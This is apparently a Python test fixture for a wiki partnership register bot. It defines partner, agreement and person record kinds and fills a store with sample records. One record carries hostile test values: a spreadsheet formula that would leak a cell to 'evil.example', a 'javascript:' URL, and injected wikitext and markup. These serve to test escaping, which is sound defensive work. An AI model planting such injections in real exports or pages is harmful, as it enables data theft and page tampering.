"""A register as it is after some years: three kinds, hostile values, moves, a page that is gone."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from bots.core.config import HubConfig
from bots.core.register.facts import PageRecord
from bots.core.store import Store
from tests.webservice.example import CONFIG, HOSTILE

PARTNER = """
template: Partner
below: Partners
label: {en: Partner, sv: Partner}
plural: {en: Partners, sv: Partner}
about: {en: Organisations that we work with, sv: Organisationer som vi arbetar med}
schema_type: Organization
schema_types: {kind: {museum: Museum, archive: ArchiveOrganization}}
fields:
  name: {label: {en: Name, sv: Namn}, about: {en: What it is called}, property: name}
  kind:
    type: choice
    label: {en: Sort of organisation, sv: Slags organisation}
    about: {en: What it is}
    choices: {museum: {en: Museum, sv: Museum}, archive: {en: Archive, sv: Arkiv}}
  item: {type: item, label: {en: Wikidata item}, about: {en: Its item}, property: sameAs}
  country:
    {type: country, label: {en: Country, sv: Land}, about: {en: Where it is}, property: location}
  languages:
    type: language
    many: true
    label: {en: Languages}
    about: {en: What it speaks}
    property: knowsLanguage
  topics:
    {many: true, label: {en: Topics, sv: Ämnen}, about: {en: What it knows}, property: knowsAbout}
  stage:
    type: choice
    label: {en: Stage, sv: Läge}
    about: {en: How far it has come}
    choices: {talking: {en: In conversation, sv: I samtal}, active: {en: Active, sv: Aktivt}}
  since: {type: date, label: {en: Since, sv: Sedan}, about: {en: When it began}}
  site: {type: url, label: {en: Web site}, about: {en: Its site}, property: url}
  contact: {type: user, many: true, label: {en: Contact}, about: {en: Who to ask}}
  endpoint: {label: {en: Endpoint}, about: {en: Where its data is}}
  lessons: {label: {en: Lessons, sv: Lärdomar}, about: {en: What was learnt}}
pages:
  directory:
    title: {en: Directory}
    about: {en: All of them}
    columns: [name, country, topics, stage]
    group: topics
"""

AGREEMENT = """
template: Agreement
below: Agreements
label: {en: Agreement, sv: Avtal}
plural: {en: Agreements, sv: Avtal}
about: {en: What was agreed, sv: Vad man kom överens om}
called: title
schema_type: DigitalDocument
fields:
  title: {label: {en: Title}, about: {en: What it is called}, property: name}
  partner:
    type: record
    of: [partner]
    many: true
    label: {en: Partner}
    about: {en: With whom}
    property: about
  stage:
    type: choice
    label: {en: Stage, sv: Läge}
    about: {en: Whether it holds}
    choices: {active: {en: In force, sv: Gäller}, ended: {en: Ended, sv: Avslutat}}
  ends: {type: date, label: {en: Ends}, about: {en: Until when}, property: expires}
  people: {type: number, label: {en: People}, about: {en: How many}, property: size}
"""

PERSON = """
template: Person
below: People
called: user
listed_by: listed
label: {en: Person}
plural: {en: People}
about: {en: Who carries partnerships}
schema_type: Person
fields:
  user: {type: user, label: {en: User}, about: {en: Their account}, property: name}
  listed: {type: yes-no, label: {en: Listed}, about: {en: Whether they may be listed}}
  country: {type: country, label: {en: Country, sv: Land}, about: {en: Where they are}}
"""

START = datetime(2024, 3, 1, 9, 0, tzinfo=UTC)
LATER = datetime(2025, 6, 1, 9, 0, 0, 123456, tzinfo=UTC)
NOW = datetime(2026, 2, 1, 9, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"look")'


def write_kinds(folder: Path) -> Path:
    """The kinds' files in a configuration's folder."""
    (folder / "records").mkdir(parents=True)
    (folder / "records" / "partner.yaml").write_text(PARTNER, encoding="utf-8")
    (folder / "records" / "person.yaml").write_text(PERSON, encoding="utf-8")
    (folder / "records" / "agreement.yaml").write_text(AGREEMENT, encoding="utf-8")
    return folder


def config(store_url: str, folder: Path) -> HubConfig:
    """The example's configuration with its store and its kinds."""
    return CONFIG.model_copy(update={"store": store_url, "folder": write_kinds(folder)})


def partner(
    page: int, name: str, edited: datetime = START, /, **values: str | list[str]
) -> PageRecord:
    """A partner on a page below the register's top."""
    return record("partner", page, f"Partnerships/Partners/{name}", edited, name=name, **values)


def record(
    kind: str, page: int, title: str, edited: datetime, /, **values: str | list[str]
) -> PageRecord:
    """Any record."""
    said = {name: [many] if isinstance(many, str) else many for name, many in values.items()}
    return PageRecord(kind=kind, page=page, title=title, revid=page, edited=edited, values=said)


def fill(store: Store) -> None:
    """Fill a store with records that tests ask for."""

    def put(each: PageRecord) -> None:
        store.put_page_record(each, "hub", each.edited)

    museum = {"kind": "museum", "country": "SE", "stage": "talking", "item": "Q842858"}
    put(
        partner(
            11, "Nationalmuseum", **museum, topics=["art"], site="https://www.nationalmuseum.se/"
        )
    )
    put(
        partner(
            11, "Nationalmuseum", LATER, **museum | {"stage": "active"}, since="2024-11",
            topics=["art", "built heritage"], site="https://www.nationalmuseum.se/",
            languages=["sv", "en"], contact=["Coordinator"], lessons="Scans first.\nThen metadata.",
        )
    )  # fmt: skip
    put(
        partner(
            12,
            "Malmö museer",
            kind="museum",
            country="SE",
            stage="talking",
            topics=["built heritage"],
        )
    )
    put(
        partner(
            13, "Riksarkivet", kind="archive", country="SE", stage="active", topics=["archives"]
        )
    )
    put(partner(14, "Rijksmuseum", kind="museum", country="NL", stage="active", topics=["art"]))
    put(
        partner(
            15, HOSTILE, kind="museum", stage="talking", topics=[FORMULA, HOSTILE],
            lessons="[[Category:Evil]]{{delete}}'''<b>bold</b>", site="javascript:alert(1)",
            endpoint="@SUM(1)",
        )
    )  # fmt: skip
    put(partner(16, "Gone", country="FI"))
    store.end_page_record(16, "hub", LATER)
    put(partner(17, "Old name", country="DK"))
    moved = partner(17, "New name", NOW, country="DK")
    put(moved)
    old = "Partnerships/Agreements/Scans"
    put(record("agreement", 21, old, START, title="Scans 2024", stage="active", ends="2027-06",
               partner=["Partnerships/Partners/Nationalmuseum"], people="12"))  # fmt: skip
    people = "Partnerships/People"
    put(record("person", 41, f"{people}/Helper", START, user="Helper", listed="yes", country="SE"))
    put(record("person", 42, f"{people}/Shy", START, user="Shy", listed="yes", country="SE"))
    put(record("person", 42, f"{people}/Shy", LATER, user="Shy", listed="no", country="SE"))
    put(record("person", 43, f"{people}/Left", START, user="Left", listed="yes"))
    store.end_page_record(43, "hub", LATER)
    put(record("retired kind", 31, "Partnerships/Old/X", START, name="X"))
